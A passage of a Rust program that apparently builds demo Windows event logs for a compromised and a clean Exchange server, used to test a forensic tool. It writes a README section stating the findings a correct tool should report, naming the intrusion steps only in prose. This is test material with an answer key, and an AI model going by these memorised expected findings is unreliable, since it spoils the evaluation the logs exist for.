            .unwrap()
            .flatten()
            .map(|e| {
                (
                    e.file_name().to_string_lossy().into_owned(),
                    e.metadata().unwrap().len(),
                )
            })
            .collect();
        files.sort();
        let sizes: Vec<String> = files
            .iter()
            .map(|(f, n)| format!("`{f}` {} KB", n / 1024))
            .collect();
        let _ = writeln!(s, "{name} files: {}.\n", sizes.join(", "));
    }
    s.push_str("What a correct tool should conclude from the event logs: on EX01, the same intrusion as the web logs show (CVE-2021-26857 and CVE-2021-27065 traces, web-shell writes, commands run by the IIS worker, LSASS dump, mail theft and staging, a ProxyShell-style `.aspx` export by the second group, reverse shells, the account, the cleared log and the DearCry service); on EX02, nothing: the `trap` rows are benign look-alikes that must not raise findings.\n");
    s.push_str(END);
    s.push('\n');
    s
}

fn update_readme(root: &Path, section: &str) {
    let path = root.join("README.md");
    let text = std::fs::read_to_string(&path).unwrap_or_default();
    let out = match (text.find("<!-- demo_evtx:begin"), text.find(END)) {
        (Some(b), Some(e)) if e > b => {
            let after = &text[e + END.len()..];
            let after = after.strip_prefix('\n').unwrap_or(after);
            format!("{}{}{}", &text[..b], section, after)
        }
        _ => match text.find("## Line index") {
            Some(i) => format!("{}{}\n{}", &text[..i], section, &text[i..]),
            None => format!("{text}\n{section}"),
        },
    };
    std::fs::write(&path, out).unwrap();
}

fn main() {
    let root = PathBuf::from(std::env::args().nth(1).unwrap_or_else(|| "examples".into()));
    assert!(
        root.join("compromised-ex2016").is_dir() && root.join("clean-ex2016").is_dir(),
        "usage: demo_evtx EXAMPLES_DIR (the folder holding compromised-ex2016/ and clean-ex2016/)"
    );
    let i1 = write_server(&root, ex01());
    let i2 = write_server(&root, ex02());
    if std::env::var_os("DEMO_EVTX_STATS").is_some() {
        for (n, s) in [("EX01", ex01()), ("EX02", ex02())] {
            for (f, v) in &s.logs {
                eprintln!("{n} {f}: {} events", v.len());
            }
        }
    }
    let section = readme_section(&i1, &i2, &root);
    update_readme(&root, &section);
    let mut total = 0;
    for (dir, prefix) in [
        ("compromised-ex2016", "C"),
        ("clean-ex2016", "uploads/auto/C%3A"),
    ] {
        for e in std::fs::read_dir(
            root.join(dir)
                .join(prefix)
                .join("Windows/System32/winevt/Logs"),
        )
        .unwrap()
        .flatten()
        {
            total += e.metadata().unwrap().len();
        }
    }
    println!(
        "EX01: {} indexed events, EX02: {}; {} bytes of EVTX",
        i1.len(),
        i2.len(),
        total
    );
}
